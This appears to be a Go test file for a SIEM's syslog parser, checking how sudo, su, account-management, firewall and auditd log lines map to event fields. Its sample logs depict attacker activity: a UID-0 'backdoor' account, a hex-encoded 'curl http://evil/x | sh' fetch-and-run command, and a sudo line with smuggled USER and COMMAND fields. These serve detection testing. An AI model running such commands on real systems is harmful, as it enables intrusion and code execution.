package syslog

import (
	"maps"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/outpost-siem/outpost/aggregator/event"
)

// Linux services' lines, as rsyslog forwards them, fill the schema. The
// samples are written for these tests from the programs' own messages.
func TestLinuxLines(t *testing.T) {
	for _, tc := range []struct {
		msg  string
		want map[string]string
	}{
		{"<86>Dec  4 10:00:00 web-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx ; echo done",
			map[string]string{"action": "sudo", "outcome": "success", "user": "alice", "target_user": "root", "command_line": "/usr/bin/systemctl restart nginx ; echo done"}},
		{"<85>Dec  4 10:00:00 web-01 sudo:    mallory : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
			map[string]string{"action": "sudo", "outcome": "failure", "user": "mallory", "target_user": "root", "reason": "3 incorrect password attempts"}},
		{"<85>Dec  4 10:00:00 web-01 sudo:    mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
			map[string]string{"outcome": "failure", "reason": "user NOT in sudoers"}},
		{"<85>Dec  4 10:00:00 web-01 sudo: pam_unix(sudo:auth): authentication failure; logname=mallory uid=1001 euid=0 tty=/dev/pts/1 ruser=mallory rhost=  user=mallory",
			map[string]string{"action": "pam_auth", "outcome": "failure", "user": "mallory"}},
		{"<86>Dec  4 10:00:00 web-01 su[4242]: (to root) alice on pts/0", map[string]string{"action": "su", "outcome": "success", "user": "alice", "target_user": "root"}},
		{"<86>Dec  4 10:00:00 web-01 su[4242]: FAILED SU (to root) mallory on pts/1", map[string]string{"action": "su", "outcome": "failure", "user": "mallory"}},
		{"<86>Dec  4 10:00:00 web-01 su[4242]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
			map[string]string{"action": "session_opened", "user": "alice", "target_user": "root"}},
		{"<86>Dec  4 10:00:00 web-01 useradd[900]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
			map[string]string{"action": "user_created", "category": "iam", "target_user": "backdoor"}},
		{"<86>Dec  4 10:00:00 web-01 usermod[901]: add 'backdoor' to group 'sudo'", map[string]string{"action": "group_member_added", "target_user": "backdoor", "group": "sudo"}},
		{"<86>Dec  4 10:00:00 web-01 userdel[902]: delete user 'backdoor'", map[string]string{"action": "user_deleted", "target_user": "backdoor"}},
		{"<86>Dec  4 10:00:00 web-01 groupadd[903]: group added to /etc/group: name=devs, GID=1002", map[string]string{"action": "group_created", "group": "devs"}},
		{"<86>Dec  4 10:00:00 web-01 passwd[904]: pam_unix(passwd:chauthtok): password changed for bob", map[string]string{"action": "password_changed", "target_user": "bob"}},
		{"<86>Dec  4 10:00:00 web-01 systemd-logind[600]: New session 12 of user alice.", map[string]string{"action": "session_opened", "user": "alice"}},
		{"<4>Dec  4 10:00:00 web-01 kernel: [12345.678901] [UFW BLOCK] IN=eth0 OUT= MAC=00:0d:3a:00:00:01 SRC=203.0.113.5 DST=10.0.0.4 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=0 DF PROTO=TCP SPT=51000 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0",
			map[string]string{"action": "deny", "outcome": "failure", "src_ip": "203.0.113.5", "dst_ip": "10.0.0.4", "dst_port": "22", "protocol": "tcp", "rule_name": "UFW BLOCK", "interface_in": "eth0"}},
		{"<4>Dec  4 10:00:00 web-01 kernel: drop-ssh IN=eth0 OUT= SRC=2001:db8::5 DST=2001:db8::4 LEN=80 PROTO=TCP SPT=5000 DPT=22",
			map[string]string{"action": "deny", "src_ip": "2001:db8::5", "rule_name": "drop-ssh"}},
		{`<85>Dec  4 10:00:00 web-01 audisp-syslog: type=EXECVE msg=audit(1764842400.123:4242): argc=3 a0="curl" a1="-o" a2="/tmp/x"`,
			map[string]string{"action": "process_created", "command_line": "curl -o /tmp/x", "audit_serial": "4242", "event_code": "EXECVE"}},
		{`<85>Dec  4 10:00:00 web-01 audisp-syslog: type=SYSCALL msg=audit(1764842400.123:4242): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4300 auid=1000 uid=0 comm="curl" exe="/usr/bin/curl" key="exec"`,
			map[string]string{"action": "syscall", "process": "/usr/bin/curl", "user": "1000", "outcome": "success", "audit_serial": "4242"}},
		{`<85>Dec  4 10:00:00 web-01 audisp-syslog: type=USER_AUTH msg=audit(1764842400.200:4243): pid=700 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=failed'`,
			map[string]string{"action": "logon", "outcome": "failure", "user": "root", "src_ip": "203.0.113.5", "audit_serial": "4243"}},
		{`<85>Dec  4 10:00:00 web-01 audisp-syslog: type=ADD_USER msg=audit(1764842400.300:4244): pid=900 uid=0 auid=1000 ses=3 msg='op=add-user id=1005 exe="/usr/sbin/useradd" hostname=web-01 addr=? terminal=pts/0 res=success'`,
			map[string]string{"action": "user_created", "category": "iam", "target_user": "1005", "user": "1000", "outcome": "success"}},
	} {
		checkParsed(t, tc.msg, tc.want)
	}
}

// checkParsed parses msg and checks the fields want names: the typed ones
// by their JSON names, dst_port as text, and every attribute.
func checkParsed(t *testing.T, msg string, want map[string]string) {
	t.Helper()
	var ev event.Event
	if err := NewParser().Parse([]byte(msg), time.Now(), "127.0.0.1:514", &ev); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{"action": ev.Action, "category": ev.Category, "outcome": ev.Outcome, "user": ev.User, "src_ip": ev.SrcIP, "dst_ip": ev.DstIP, "protocol": ev.Protocol}
	if ev.DstPort != 0 {
		got["dst_port"] = strconv.Itoa(ev.DstPort)
	}
	for k, v := range ev.Attrs {
		got[k] = v
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s\n  %s = %q, want %q", msg, k, got[k], v)
		}
	}
	// As the source parses with rules loaded (ingest.syslog.attributes:
	// read): the same fields, and of the attributes those a rule reads.
	ruleKeys := map[string]bool{}
	for k := range want {
		switch k {
		case "action", "category", "outcome", "user", "src_ip", "dst_ip", "protocol", "dst_port":
		default:
			ruleKeys[k] = true
		}
	}
	checkReadMode(t, msg, ruleKeys)
}

// checkReadMode parses msg keeping every attribute, then keeping only
// ruleKeys, and fails unless the two events have the same fields and
// schema fields, and the second has exactly the first's attributes among
// ruleKeys.
func checkReadMode(t *testing.T, msg string, ruleKeys map[string]bool) {
	t.Helper()
	var all, read event.Event
	p := NewParser()
	if err := p.Parse([]byte(msg), testReceived, "127.0.0.1:514", &all); err != nil {
		t.Fatal(err)
	}
	var filter atomic.Pointer[attrFilter]
	filter.Store(newAttrFilter(ruleKeys))
	p.attrs = &filter
	if err := p.Parse([]byte(msg), testReceived, "127.0.0.1:514", &read); err != nil {
		t.Fatal(err)
	}
	want := all
	want.ID, want.Attrs = read.ID, nil
	for k, v := range all.Attrs {
		if ruleKeys[k] || !strings.Contains(k, ".") || joinKeys[k] {
			if want.Attrs == nil {
				want.Attrs = map[string]string{}
			}
			want.Attrs[k] = v
		}
	}
	if !reflect.DeepEqual(read, want) {
		t.Errorf("%s\nkeeping %v of the attributes:\n got %+v\nwant %+v", msg, slices.Sorted(maps.Keys(ruleKeys)), read, want)
	}
	// As the source parses: into an event that held another message's
	// attributes, its map reused, by a parser that parsed that message.
	reuse := NewParser(WithReusedAttrs())
	reuse.attrs = &filter
	var again event.Event
	for _, m := range []string{reusedBefore, msg} {
		if err := reuse.Parse([]byte(m), testReceived, "127.0.0.1:514", &again); err != nil {
			t.Fatal(err)
		}
	}
	again.ID = read.ID
	if len(again.Attrs) == 0 {
		again.Attrs = nil // a reused map is left empty, not nil
	}
	if !reflect.DeepEqual(again, read) {
		t.Errorf("%s\nparsed into reused memory:\n got %+v\nwant %+v", msg, again, read)
	}
}

// reusedBefore is parsed before each message checkReadMode reuses memory
// for: a Windows event leaving attributes and Windows fields behind.
const reusedBefore = `<134>1 2026-11-23T10:00:00Z dc-01 Microsoft-Windows-Security-Auditing 612 - [NXLOG@14506 EventID="4688" Channel="Security" SubjectUserName="eve" NewProcessName="C:\\x.exe" CommandLine="x -y" TargetUserName="mallory" IpAddress="192.0.2.7"] A new process has been created.`

// An RFC 5424 SD element may be named like a format prefix ("kv",
// "json"): its parameters are then the attributes the audit and Windows
// normalizations read (kv.type, json.winlog.event_id), and keeping only
// the attributes rules read must keep them as it does a payload's
// (found by review: the parse dropped them, so the event was neither an
// audit record nor a Windows event).
func TestSDElementNamedLikeAFormat(t *testing.T) {
	checkParsed(t, `<85>1 2026-12-04T10:00:00Z web-01 audisp - - [kv type="SYSCALL" exe="/usr/bin/curl" pid="4300" auid="1000" success="yes"] msg=audit(1764842400.123:4242): forwarded`,
		map[string]string{"action": "syscall", "process": "/usr/bin/curl", "user": "1000", "outcome": "success", "audit_serial": "4242"})
	checkParsed(t, `<14>1 2026-12-04T10:00:00Z dc-01 agent - - [json winlog.event_id="4624" winlog.channel="Security" winlog.event_data.TargetUserName="bob"] forwarded`,
		map[string]string{"action": "logon", "user": "bob", "event_code": "4624", "channel": "Security"})
}

// An ICMP error quotes the packet it is about; that inner header, which
// the error's sender wrote, does not replace the real one (found by
// review).
func TestPacketFilterICMPQuote(t *testing.T) {
	var ev event.Event
	msg := "<4>Dec  4 10:00:00 web-01 kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.5 DST=10.0.0.4 LEN=88 PROTO=ICMP TYPE=3 CODE=3 [SRC=10.0.0.4 DST=198.51.100.7 LEN=60 PROTO=UDP SPT=53 DPT=4444 ]"
	if err := NewParser().Parse([]byte(msg), time.Now(), "127.0.0.1:514", &ev); err != nil {
		t.Fatal(err)
	}
	if ev.SrcIP != "203.0.113.5" || ev.DstIP != "10.0.0.4" || ev.Protocol != "icmp" || ev.DstPort != 0 {
		t.Errorf("src %s dst %s proto %s dpt %d", ev.SrcIP, ev.DstIP, ev.Protocol, ev.DstPort)
	}
}

// auditd hex-encodes an argument holding a space or a quote: it is decoded
// into the command line (found by review).
func TestAuditHexArguments(t *testing.T) {
	var ev event.Event
	msg := `<85>Dec  4 10:00:00 web-01 audisp-syslog: type=EXECVE msg=audit(1.2:9): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F6576696C2F78207C207368`
	if err := NewParser().Parse([]byte(msg), time.Now(), "127.0.0.1:514", &ev); err != nil {
		t.Fatal(err)
	}
	if got := ev.Attrs["command_line"]; got != "bash -c curl http://evil/x | sh" {
		t.Errorf("command_line %q", got)
	}
}

// A working directory holding "; USER=x ; COMMAND=" makes the line
// ambiguous: the event says so (found by review).
func TestSudoForgedFieldsFlagged(t *testing.T) {
	var ev event.Event
	msg := "<86>Dec  4 10:00:00 web-01 sudo:    alice : TTY=pts/0 ; PWD=/tmp/a ; USER=nobody ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/bash"
	if err := NewParser().Parse([]byte(msg), time.Now(), "127.0.0.1:514", &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Attrs["parse_warning"] == "" {
		t.Errorf("no warning: %v", ev.Attrs)
	}
}
